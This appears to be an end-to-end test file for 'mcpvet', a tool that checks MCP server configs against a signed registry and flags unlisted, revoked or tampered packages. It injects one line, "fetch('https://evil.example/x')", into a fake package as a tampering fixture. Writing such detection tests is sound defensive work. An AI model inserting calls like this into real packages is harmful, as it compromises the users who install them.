import { execFile } from 'node:child_process';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Report } from '../../registry/records/types.generated.js';
import { validateReport } from '../../verifier/report/index.js';
import { buildTarball, type FakeNpmRegistry, startFakeNpmRegistry } from '../helpers/fake-npm.js';
import { serverPackage, serverRelease } from '../helpers/npm-server.js';
import { lineOf, pinRoot, runInProcess, startTestRegistry, type TestRegistry, writeText } from './harness.js';

const ROOT = join(import.meta.dirname, '../..');

const WEATHER = serverPackage('@acme/weather-mcp', '1.2.0', 'io.github.acme/weather');
const LEGACY = serverPackage('@acme/legacy-mcp', '0.9.0', 'io.github.acme/legacy');
const TAMPERED = serverPackage(
  '@acme/notes-mcp',
  '2.0.0',
  'io.github.acme/notes',
  "fetch('https://evil.example/x');",
);
// what the registry assessed for notes 2.0.0: the same package without the injected line
const NOTES_ASSESSED = serverPackage('@acme/notes-mcp', '2.0.0', 'io.github.acme/notes');
const ROGUE = serverPackage('rogue-mcp', '1.0.0', 'io.github.rogue/x');

let npm: FakeNpmRegistry;
let registry: TestRegistry;
let root: string;

beforeAll(async () => {
  npm = await startFakeNpmRegistry([WEATHER, LEGACY, TAMPERED, ROGUE]);
  registry = await startTestRegistry(['io.github.acme/*']);
  root = await mkdtemp(join(tmpdir(), 'mcpvet-verify-e2e-'));

  await registry.publish(
    serverRelease('io.github.acme/weather', '1.2.0', WEATHER, npm.integrity(WEATHER.name, '1.2.0')),
  );
  await registry.setStatus('io.github.acme/weather', '1.2.0', 'approved');
  await registry.publish(
    serverRelease('io.github.acme/legacy', '0.9.0', LEGACY, npm.integrity(LEGACY.name, '0.9.0')),
  );
  await registry.setStatus('io.github.acme/legacy', '0.9.0', 'approved');
  await registry.setStatus('io.github.acme/legacy', '0.9.0', 'revoked', 'exfiltrates environment variables');
  const assessed = await buildTarball(NOTES_ASSESSED);
  await registry.publish(serverRelease('io.github.acme/notes', '2.0.0', NOTES_ASSESSED, assessed.integrity));
  await registry.setStatus('io.github.acme/notes', '2.0.0', 'approved');
  await pinRoot(registry.url, trustHome());
});

// verify checks the registry's signatures by default: every run trusts the root pinned here.
function trustHome(): string {
  return join(root, 'trust-home');
}

afterAll(async () => {
  await registry?.close();
  await npm?.close();
  await rm(root, { recursive: true, force: true });
});

function envFor(dir: string): Record<string, string> {
  return {
    HOME: join(dir, 'home'),
    npm_config_registry: npm.url,
    npm_config_cache: join(dir, 'npm-cache'),
    MCPVET_CACHE_DIR: join(dir, 'mcpvet-cache'),
    MCPVET_SYSTEM_ROOT: join(dir, 'system'),
    MCPVET_HOME: trustHome(),
    PATH: process.env.PATH ?? '',
  };
}

const VSCODE_BAD = `{
  // project servers for VS Code
  "servers": {
    "weather": {
      "type": "stdio",
      "command": "npx",
      "args": ["-y", "@acme/weather-mcp@1.2.0"]
    },
    "rogue": {
      "command": "npx",
      "args": ["-y", "rogue-mcp@1.0.0"]
    }
  }
}
`;

const CURSOR_BAD = `{
  "mcpServers": {
    "weather": { "command": "npx", "args": ["-y", "@acme/weather-mcp@1.2.0"] },
    "legacy": { "command": "npx", "args": ["-y", "@acme/legacy-mcp@0.9.0"] },
    "notes": {
      "command": "npx",
      "args": ["-y", "@acme/notes-mcp@2.0.0"]
    }
  }
}
`;

async function makeProject(name: string, vscode: string, cursor: string) {
  const dir = join(root, name);
  const vs = await writeText(join(dir, 'project', '.vscode', 'mcp.json'), vscode);
  const cu = await writeText(join(dir, 'project', '.cursor', 'mcp.json'), cursor);
  return { dir, cwd: join(dir, 'project'), vs, cu };
}

interface SarifResult {
  ruleId: string;
  level: string;
  message: { text: string };
  locations: {
    physicalLocation: {
      artifactLocation: { uri: string; uriBaseId?: string };
      region: { startLine: number };
    };
  }[];
}

/** The SARIF 2.1.0 fields GitHub code scanning requires, checked one by one. */
function assertSarif(sarif: Record<string, unknown>): SarifResult[] {
  expect(sarif.version).toBe('2.1.0');
  expect(sarif.$schema).toMatch(/sarif-2\.1\.0/);
  const runs = sarif.runs as Record<string, unknown>[];
  expect(runs).toHaveLength(1);
  const run = runs[0] as {
    tool: { driver: { name: string; rules: { id: string; shortDescription: { text: string } }[] } };
    results: SarifResult[];
  };
  expect(run.tool.driver.name).toBe('mcpvet');
  const ruleIds = run.tool.driver.rules.map((r) => r.id);
  expect(new Set(ruleIds).size).toBe(ruleIds.length);
  for (const rule of run.tool.driver.rules) expect(rule.shortDescription.text.length).toBeGreaterThan(0);
  for (const result of run.results) {
    expect(ruleIds).toContain(result.ruleId);
    expect(['error', 'warning', 'note', 'none']).toContain(result.level);
    expect(result.message.text.length).toBeGreaterThan(0);
    expect(result.locations.length).toBeGreaterThan(0);
    for (const loc of result.locations) {
      expect(loc.physicalLocation.artifactLocation.uri.length).toBeGreaterThan(0);
      expect(Number.isInteger(loc.physicalLocation.region.startLine)).toBe(true);
      expect(loc.physicalLocation.region.startLine).toBeGreaterThanOrEqual(1);
    }
  }
  return run.results;
}

describe('mcpvet verify end to end (real registry on loopback, fake npm, pacote)', () => {
  it('fails a project with unlisted, revoked and tampered servers, naming each with its code and line', async () => {
    const p = await makeProject('bad', VSCODE_BAD, CURSOR_BAD);
    const run = await runInProcess(
      ['verify', '--registry', registry.url, '--format', 'json'],
      p.cwd,
      envFor(p.dir),
    );
    expect(run.stderr).toBe('');
    expect(run.code).toBe(1);
    const report = JSON.parse(run.stdout) as Report;
    const valid = validateReport(report);
    expect(valid.ok ? [] : valid.issues).toEqual([]);
    expect(report.outcome).toBe('fail');

    const failing = report.findings
      .filter((f) => f.fails)
      .map((f) => [f.server, f.code, f.location?.file, f.location?.line]);
    expect(failing).toEqual(
      expect.arrayContaining([
        ['rogue', 'unlisted', p.vs, await lineOf(p.vs, '"rogue"')],
        ['legacy', 'revoked', p.cu, await lineOf(p.cu, '"legacy"')],
        ['notes', 'digest_mismatch', p.cu, await lineOf(p.cu, '"notes"')],
      ]),
    );
    expect(failing).toHaveLength(3);
    const revoked = report.findings.find((f) => f.code === 'revoked');
    expect(revoked?.severity).toBe('critical');
    expect(revoked?.message).toContain('exfiltrates environment variables');
    const mismatch = report.findings.find((f) => f.code === 'digest_mismatch');
    expect(mismatch?.evidence).toMatchObject({ integrity: npm.integrity(TAMPERED.name, '2.0.0') });

    const weather = report.servers.filter((s) => s.name === 'weather');
    expect(weather.map((s) => [s.client, s.verdict, s.match?.server, s.match?.status])).toEqual([
      ['vscode', 'pass', 'io.github.acme/weather', 'approved'],
      ['cursor', 'pass', 'io.github.acme/weather', 'approved'],
    ]);
    expect(weather[0]?.resolution).toMatchObject({
      status: 'resolved',
      version: '1.2.0',
      integrity: npm.integrity(WEATHER.name, '1.2.0'),
      tarballIntegrity: npm.integrity(WEATHER.name, '1.2.0'),
    });
    expect(report.registries).toEqual([{ url: registry.url, state: 'online' }]);
  });

  it('locates each problem at its config line in SARIF, and lists failures in JUnit', async () => {
    const p = await makeProject('sarif', VSCODE_BAD, CURSOR_BAD);
    const run = await runInProcess(
      ['verify', '--registry', registry.url, '--format', 'sarif'],
      p.cwd,
      envFor(p.dir),
    );
    expect(run.code).toBe(1);
    const results = assertSarif(JSON.parse(run.stdout) as Record<string, unknown>);
    const located = results.map((r) => [
      r.ruleId,
      r.level,
      r.locations[0]?.physicalLocation.artifactLocation.uri,
      r.locations[0]?.physicalLocation.artifactLocation.uriBaseId,
      r.locations[0]?.physicalLocation.region.startLine,
    ]);
    expect(located).toEqual(
      expect.arrayContaining([
        ['unlisted', 'error', '.vscode/mcp.json', '%SRCROOT%', await lineOf(p.vs, '"rogue"')],
        ['revoked', 'error', '.cursor/mcp.json', '%SRCROOT%', await lineOf(p.cu, '"legacy"')],
        ['digest_mismatch', 'error', '.cursor/mcp.json', '%SRCROOT%', await lineOf(p.cu, '"notes"')],
      ]),
    );
    expect(located).toHaveLength(3);

    const junit = await runInProcess(
      ['verify', '--registry', registry.url, '--format', 'junit'],
      p.cwd,
      envFor(p.dir),
    );
    expect(junit.code).toBe(1);
    expect(junit.stdout).toMatch(
      /^<\?xml version="1.0" encoding="UTF-8"\?>\n<testsuites name="mcpvet verify" tests="5" failures="3"/,
    );
    expect(junit.stdout).toContain('<failure type="revoked"');
    expect(junit.stdout).toContain('<failure type="unlisted"');
    expect(junit.stdout).toContain('<failure type="digest_mismatch"');
    expect(junit.stdout).toMatch(
      /<testcase classname="vscode.project" name="weather \(npm:@acme\/weather-mcp@1.2.0\)" time="0" file=".vscode\/mcp.json" line="4"\/>/,
    );
  });

  it('passes the same project with only the approved server, in the readable table', async () => {
    const vs =
      '{ "servers": { "weather": { "command": "npx", "args": ["-y", "@acme/weather-mcp@1.2.0"] } } }\n';
    const cu =
      '{ "mcpServers": { "weather": { "command": "npx", "args": ["-y", "@acme/weather-mcp@1.2.0"] } } }\n';
    const p = await makeProject('good', vs, cu);
    const run = await runInProcess(['verify', '--registry', registry.url], p.cwd, envFor(p.dir));
    expect(run.code).toBe(0);
    expect(run.stdout).toContain('PASS: 0 findings, 0 failing');
    expect(run.stdout).toMatch(
      /weather\s+vscode\s+project\s+\.vscode\/mcp\.json:1\s+npm:@acme\/weather-mcp@1\.2\.0\s+io\.github\.acme\/weather 1\.2\.0 approved\s+ok/,
    );
    expect(run.stdout).not.toContain('\u001b[');
  });

  it('exits 3 when the registry is unreachable and nothing is cached, and verifies offline from the cache', async () => {
    const p = await makeProject('offline', VSCODE_BAD, CURSOR_BAD);
    const env = envFor(p.dir);
    // a run against the live registry fills the cache
    expect(
      (await runInProcess(['verify', '--registry', registry.url, '--format', 'json'], p.cwd, env)).code,
    ).toBe(1);

    // cached records carry no signatures: with the default policy that is trust not established
    const strict = await runInProcess(
      ['verify', '--registry', registry.url, '--offline', '--format', 'json'],
      p.cwd,
      env,
    );
    expect(strict.code).toBe(3);
    expect(
      (JSON.parse(strict.stdout) as Report).findings.find((f) => f.code === 'trust_unverified')?.fails,
    ).toBe(true);

    await writeText(join(p.cwd, 'unsigned.policy.json'), '{ "requireSignatures": false }\n');
    const offline = await runInProcess(
      [
        'verify',
        '--registry',
        registry.url,
        '--offline',
        '--policy',
        'unsigned.policy.json',
        '--format',
        'json',
      ],
      p.cwd,
      env,
    );
    expect(offline.code).toBe(1);
    const report = JSON.parse(offline.stdout) as Report;
    expect(report.registries[0]?.state).toBe('cached');
    expect(
      report.findings
        .filter((f) => f.fails)
        .map((f) => f.code)
        .sort(),
    ).toEqual(['digest_mismatch', 'revoked', 'unlisted']);
    expect(report.findings.find((f) => f.code === 'registry_offline')?.fails).toBe(false);
    expect(report.findings.find((f) => f.code === 'trust_unverified')).toMatchObject({
      severity: 'low',
      fails: false,
    });

    const dead = 'http://127.0.0.1:9';
    const noCache = await runInProcess(['verify', '--registry', dead], p.cwd, {
      ...env,
      MCPVET_CACHE_DIR: join(p.dir, 'empty-cache'),
    });
    expect(noCache.code).toBe(3);
    expect(noCache.stderr).toContain('trust could not be established');
    expect(noCache.stdout).toBe('');
  });

  it('applies policy: exceptions until they expire, failOn, and the registry from the policy file', async () => {
    const p = await makeProject('policy', VSCODE_BAD, CURSOR_BAD);
    await writeText(
      join(p.cwd, 'mcpvet.policy.json'),
      JSON.stringify({
        registries: [registry.url],
        exceptions: [
          {
            server: 'rogue-mcp',
            codes: ['unlisted'],
            reason: 'internal tool, listing pending',
            expires: '2999-01-01',
          },
          { server: 'io.github.acme/legacy', reason: 'was fine last year', expires: '2020-01-01' },
        ],
        failOn: ['critical'],
      }),
    );
    const run = await runInProcess(['verify', '--format', 'json'], p.cwd, envFor(p.dir));
    expect(run.code).toBe(1);
    const report = JSON.parse(run.stdout) as Report;
    const byCode = Object.fromEntries(report.findings.map((f) => [f.code, f]));
    expect(byCode.unlisted?.exception).toEqual({
      reason: 'internal tool, listing pending',
      expires: '2999-01-01',
    });
    expect(byCode.unlisted?.fails).toBe(false);
    expect(byCode.revoked?.fails).toBe(true);
    expect(byCode.exception_expired?.message).toContain('io.github.acme/legacy');
    expect(report.policy).toMatchObject({
      source: join(p.cwd, 'mcpvet.policy.json'),
      failOn: ['critical'],
      exceptions: 2,
    });
  });

  it('reads a private registry with MCPVET_REGISTRY_TOKEN and exits 3 without it', async () => {
    const priv = await startTestRegistry(['io.github.acme/*'], false);
    try {
      await priv.publish(
        serverRelease('io.github.acme/weather', '1.2.0', WEATHER, npm.integrity(WEATHER.name, '1.2.0')),
      );
      await priv.setStatus('io.github.acme/weather', '1.2.0', 'approved');
      const vs =
        '{ "servers": { "weather": { "command": "npx", "args": ["-y", "@acme/weather-mcp@1.2.0"] } } }\n';
      const p = await makeProject('private', vs, '{}');
      await pinRoot(priv.url, trustHome(), await priv.readerToken());
      const denied = await runInProcess(['verify', '--registry', priv.url], p.cwd, envFor(p.dir));
      expect(denied.code).toBe(3);
      expect(denied.stderr).toContain('401');
      expect(denied.stderr).toContain('MCPVET_REGISTRY_TOKEN');
      const token = await priv.readerToken();
      const allowed = await runInProcess(['verify', '--registry', priv.url], p.cwd, {
        ...envFor(p.dir),
        MCPVET_REGISTRY_TOKEN: token,
      });
      expect(allowed.code).toBe(0);
    } finally {
      await priv.close();
    }
  });

  it('passes a project with no MCP servers without asking the registry', async () => {
    const p = await makeProject('empty', '{ "servers": {} }', '{}');
    const run = await runInProcess(['verify', '--registry', 'http://127.0.0.1:9'], p.cwd, envFor(p.dir));
    expect(run.code).toBe(0);
    expect(run.stdout).toContain('No MCP servers configured');
    expect(run.stdout).not.toContain('registry http://127.0.0.1:9');
  });

  it('runs as the real binary in a child process', async () => {
    const env = envFor(join(root, 'bad'));
    // async, not spawnSync: the registry and the fake npm answer from this process's event loop
    const child = await new Promise<{ code: number | null; stdout: string; stderr: string }>((resolve) => {
      execFile(
        process.execPath,
        [
          // tsx by absolute URL: the project under test is a temp folder without node_modules
          '--import',
          pathToFileURL(join(ROOT, 'node_modules/tsx/dist/loader.mjs')).href,
          join(ROOT, 'verifier/cli/main.ts'),
          'verify',
          '--registry',
          registry.url,
          '--format',
          'json',
        ],
        { cwd: join(root, 'bad', 'project'), env: { ...env, MCPVET_CLI_MAIN: '1' }, encoding: 'utf8' },
        (error, stdout, stderr) => resolve({ code: error ? (error.code as number) : 0, stdout, stderr }),
      );
    });
    expect(child.stderr).toBe('');
    expect(child.code).toBe(1);
    const report = JSON.parse(child.stdout) as Report;
    expect(
      report.findings
        .filter((f) => f.fails)
        .map((f) => f.code)
        .sort(),
    ).toEqual(['digest_mismatch', 'revoked', 'unlisted']);
  });
});
